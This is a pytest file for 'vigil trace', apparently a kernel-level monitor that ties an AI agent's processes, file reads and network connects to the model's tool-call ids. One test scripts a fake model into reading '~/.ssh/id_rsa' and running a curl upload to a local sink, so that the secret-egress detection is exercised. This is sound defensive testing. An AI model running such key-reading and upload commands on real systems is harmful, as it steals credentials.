"""Tool calls without control: under `vigil trace` (nothing held, nothing placed) the kernel marks
each agent child's first exec, so the same story as under `vigil run` is told: effects under the
tool call the model asked for by its own id, and exfiltration with both calls' ids."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from fakellm import FakeLLMServer, Reply, Scenario, ToolCallSpec, client_env
from support.helpers import VIGIL, parse_json_lines, vigil
from support.scripted_agent import AGENT, run_scripted_agent

pytestmark = pytest.mark.usefixtures("root")

OBSERVED_CMD = "echo observed > out.txt"


def trace_agent(tmp_path: Path, commands: list[str]) -> tuple[list[dict[str, Any]], Path]:
    """The scripted agent under `vigil trace -- CMD`; its model asks for `commands` in one turn."""
    return run_scripted_agent(tmp_path, "trace", commands)


def test_trace_links_the_exfiltration_to_the_models_tool_calls(tmp_path: Path, sink: int) -> None:
    read_cmd = "cat ~/.ssh/id_rsa > /dev/null"
    send_cmd = f"curl -s -o /dev/null http://127.0.0.1:{sink}/upload"
    events, db = trace_agent(tmp_path, [read_cmd, send_cmd])
    (llm,) = [e for e in events if e["type"] == "llm_call"]
    model_ids = [tc["id"] for tc in llm["tool_calls"]]
    starts = {e["argv"][-1]: e for e in events if e["type"] == "tool_start"}
    reader, sender = starts[read_cmd], starts[send_cmd]
    # observed, not governed: never stopped, never placed
    assert [(s["held"], s["cgroup"]) for s in (reader, sender)] == [(False, None), (False, None)]
    assert [reader["tool_call_id"], sender["tool_call_id"]] == model_ids
    assert not reader["unrequested"] and not sender["unrequested"]

    home = tmp_path / "home"
    reads = [e for e in events if e["type"] == "file_open" and e.get("path") == f"{home}/.ssh/id_rsa"]
    assert reads and {e["tool_call"] for e in reads} == {reader["tool_call"]}
    connects = [e for e in events if e["type"] == "net_connect" and e.get("remote_port") == sink]
    assert connects and {e["tool_call"] for e in connects} == {sender["tool_call"]}
    ends = {e["tool_call"]: e for e in events if e["type"] == "tool_end"}
    assert ends[reader["tool_call"]]["tool_call_id"] == model_ids[0] and ends[reader["tool_call"]]["outcome"] == "ok"

    (egress,) = [e for e in events if e["type"] == "detection" and e["name"] == "secret_egress"]
    chain = [(link["type"], link.get("tool_call"), link.get("tool_call_id")) for link in egress["evidence"]]
    assert chain[1:] == [("tool_start", reader["tool_call"], model_ids[0]), ("file_open", reader["tool_call"], None),
                         ("tool_start", sender["tool_call"], model_ids[1]), ("net_connect", sender["tool_call"], None)]
    (stray,) = [s for s in starts.values() if s["unrequested"]]
    assert stray["argv"] == ["/bin/true", "unrequested"]

    tree = json.loads(vigil(["show", "--db", str(db), "-o", "json"]).stdout)
    (step,) = tree["timeline"]
    assert sorted(t["start"]["tool_call_id"] for t in step["tool_calls"]) == sorted(model_ids)
    assert tree["summary"]["tool_calls"] == 3


def _attached(pid: int) -> bool:
    """Whether vigil (pid) holds its BPF links: from then on the kernel matches roots by name."""
    try:
        fds = list(Path(f"/proc/{pid}/fd").iterdir())
    except OSError:
        return False
    links = 0
    for fd in fds:
        try:
            links += os.readlink(fd) == "anon_inode:bpf_link"
        except OSError:
            continue
    return links >= 3  # fork, exec and exit


def _one_step_story(events: list[dict[str, Any]], work: Path) -> None:
    """One model tool call (`echo observed > out.txt`) linked by the model's id, its write under
    it, and the agent's own stray process set apart."""
    (llm,) = [e for e in events if e["type"] == "llm_call"]
    (model_id,) = [tc["id"] for tc in llm["tool_calls"]]
    starts = [e for e in events if e["type"] == "tool_start"]
    (linked,) = [s for s in starts if not s["unrequested"]]
    assert linked["argv"][-1] == OBSERVED_CMD and linked["tool_call_id"] == model_id and linked["held"] is False
    writes = [e for e in events if e["type"] == "file_open" and e.get("path") == str(work / "out.txt")]
    assert writes and {e["tool_call"] for e in writes} == {linked["tool_call"]}
    alerts = [e for e in events if e["type"] == "detection" and e["name"] == "unrequested"]
    assert [a["evidence"][0]["argv"] for a in alerts] == [["/bin/true", "unrequested"]]



def _scenario() -> Scenario:
    return Scenario("one", default_reply=Reply(text="Writing.",
                                               tool_calls=(ToolCallSpec("bash", {"command": OBSERVED_CMD}),)))


def test_trace_by_name_links_tool_calls(tmp_path: Path) -> None:
    """`vigil trace -c COMM`: the kernel makes the root at its exec and marks its children's calls."""
    agent = tmp_path / "obsagent-c"
    agent.write_text(f"#!/bin/sh\nexec {sys.executable} {AGENT}\n")
    agent.chmod(0o755)
    work = tmp_path / "work"
    work.mkdir()
    out = tmp_path / "events.jsonl"  # a file, not a pipe nobody reads while the agent runs (vigil would block)
    with FakeLLMServer(scenarios={"one": _scenario()}, default_scenario="one") as server, \
            open(out, "w") as sink_file:
        tracer = subprocess.Popen([*VIGIL, "trace", "-o", "json", "-c", agent.name, "--timeout", "300"],
                                  stdout=sink_file, stderr=subprocess.PIPE, text=True)
        try:
            deadline = time.monotonic() + 60
            while not _attached(tracer.pid):
                assert tracer.poll() is None and time.monotonic() < deadline, "vigil did not attach"
                time.sleep(0.05)
            subprocess.run([str(agent)], env=client_env(server), cwd=work, check=True, timeout=240)
            assert server.errors == []
        finally:
            tracer.send_signal(signal.SIGINT)
            _, err = tracer.communicate(timeout=60)
    events, _ = parse_json_lines(out.read_text())
    assert [e["argv"][-1] for e in events if e["type"] == "session_start"] == [str(agent)], err
    _one_step_story(events, work)


def test_trace_of_a_running_process_links_tool_calls(tmp_path: Path) -> None:
    """`vigil trace -p PID`: a process started before vigil, its agent started after attaching."""
    work = tmp_path / "work"
    work.mkdir()
    gate = tmp_path / "gate"
    os.mkfifo(gate)
    out = tmp_path / "events.jsonl"
    with FakeLLMServer(scenarios={"one": _scenario()}, default_scenario="one") as server:
        root = subprocess.Popen(["/bin/sh", "-c", f'read go < {gate}; exec {sys.executable} {AGENT}'],
                                env=client_env(server), cwd=work)
        try:
            # events to a file, not a pipe nobody reads while the agent runs (vigil would block)
            with open(out, "w") as sink_file:
                tracer = subprocess.Popen([*VIGIL, "trace", "-o", "json", "-p", str(root.pid), "--timeout", "300"],
                                          stdout=sink_file, stderr=subprocess.PIPE, text=True)
            deadline = time.monotonic() + 60
            while '"session_start"' not in out.read_text():  # tracked from here on
                assert tracer.poll() is None and time.monotonic() < deadline, "vigil did not attach"
                time.sleep(0.05)
            with open(gate, "w") as fifo:
                fifo.write("go\n")
            assert root.wait(timeout=240) == 0
            _, err = tracer.communicate(timeout=60)
            assert tracer.returncode == 0, err
            assert server.errors == []
        finally:
            root.kill()
            root.wait()
    events, _ = parse_json_lines(out.read_text())
    _one_step_story(events, work)


def test_a_reused_response_id_keeps_each_tool_call_under_its_llm_call(tmp_path: Path) -> None:
    """An OpenAI-compatible server answering every turn with one response id: each tool call is
    still shown under the LLM call that asked for it (by the model's tool-call id)."""
    steps = ["echo one > one.txt", "echo two > two.txt"]
    turns: list[int] = []

    def respond(_provider: str, _request: Any) -> Reply:
        turns.append(len(turns))
        calls = (ToolCallSpec("bash", {"command": steps[len(turns) - 1]}),) if len(turns) <= len(steps) else ()
        return Reply(text=f"turn {len(turns)}", tool_calls=calls, response_id="chatcmpl-same")

    work = tmp_path / "work"
    work.mkdir()
    db = tmp_path / "vigil.db"
    with FakeLLMServer(scenarios={"same": Scenario("same", respond=respond)}, default_scenario="same") as server:
        proc = subprocess.run([*VIGIL, "trace", "-o", "json", "--db", str(db), "--", sys.executable,
                               str(AGENT.parent / "openai_agent.py")], env=client_env(server), cwd=work,
                              capture_output=True, text=True, timeout=240, check=False)
        assert server.errors == []
    assert proc.returncode == 0, proc.stderr
    events, _ = parse_json_lines(proc.stdout)
    llm = [e for e in events if e["type"] == "llm_call"]
    assert [e["response_id"] for e in llm] == ["chatcmpl-same"] * 3
    tree = json.loads(vigil(["show", "--db", str(db), "-o", "json"]).stdout)
    shown = [(step["llm_call"]["tool_calls"][0]["id"] if step["llm_call"]["tool_calls"] else None,
              [(t["start"]["tool_call_id"], t["start"]["argv"][-1]) for t in step["tool_calls"]])
             for step in tree["timeline"]]
    ids = [e["tool_calls"][0]["id"] for e in llm[:2]]
    assert shown == [(ids[0], [(ids[0], steps[0])]), (ids[1], [(ids[1], steps[1])]), (None, [])]
    assert tree["unrequested"] == []
